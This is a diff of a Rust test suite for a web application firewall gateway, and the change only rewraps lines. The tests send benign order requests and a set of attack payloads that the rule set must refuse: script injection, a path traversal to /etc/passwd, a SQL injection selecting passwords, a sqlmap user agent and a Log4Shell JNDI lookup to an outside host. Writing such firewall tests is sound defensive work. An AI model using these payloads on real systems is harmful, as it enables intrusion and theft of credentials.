@@ -36,8 +36,9 @@ fn released(main: &Upstream, processor: &Value) -> Project {
 /// Sends a request, with a JSON body if there is one. Returns the status and the rule that refused it.
 fn ask(gateway: &Gateway, target: &str, agent: &str, json: Option<&str>) -> (u16, Option<String>) {
     let method = if json.is_some() { "POST" } else { "GET" };
-    let mut request =
-        format!("{method} {target} HTTP/1.1\r\nhost: shop.test\r\nuser-agent: {agent}\r\naccept: */*\r\n");
+    let mut request = format!(
+        "{method} {target} HTTP/1.1\r\nhost: shop.test\r\nuser-agent: {agent}\r\naccept: */*\r\n"
+    );
     if let Some(body) = json {
         let length = body.len();
         request += &format!("content-type: application/json\r\ncontent-length: {length}\r\n");
@@ -67,8 +68,14 @@ fn core_rule_set_refuses_attacks_and_no_orders() {
         ("/orders", None),
         ("/orders?q=red%20shoes&size=42&sort=-price", None),
         ("/orders?q=caf%C3%A9", None),
-        ("/orders", Some(r#"{"item": "shoes", "count": 2, "note": "gift, please"}"#)),
-        ("/orders", Some(r#"{"items": [{"id": "a-1", "tags": ["new"]}], "total": 19.9}"#)),
+        (
+            "/orders",
+            Some(r#"{"item": "shoes", "count": 2, "note": "gift, please"}"#),
+        ),
+        (
+            "/orders",
+            Some(r#"{"items": [{"id": "a-1", "tags": ["new"]}], "total": 19.9}"#),
+        ),
     ];
     for (target, json) in orders {
         assert_eq!(ask(&gateway, target, agent, json), (200, None), "{target}");
@@ -81,7 +88,11 @@ fn core_rule_set_refuses_attacks_and_no_orders() {
         ("/orders?q=%3Cscript%3Ealert(1)%3C/script%3E", agent, None),
         ("/orders?file=../../../../etc/passwd", agent, None),
         ("/orders", "sqlmap/1.0", None),
-        ("/orders", agent, Some(r#"{"item": "1' UNION SELECT password FROM users--"}"#)),
+        (
+            "/orders",
+            agent,
+            Some(r#"{"item": "1' UNION SELECT password FROM users--"}"#),
+        ),
         ("/orders", agent, Some(r#"{"item": "${jndi:ldap://x/a}"}"#)),
     ] {
         let got = ask(&gateway, target, agent, json);
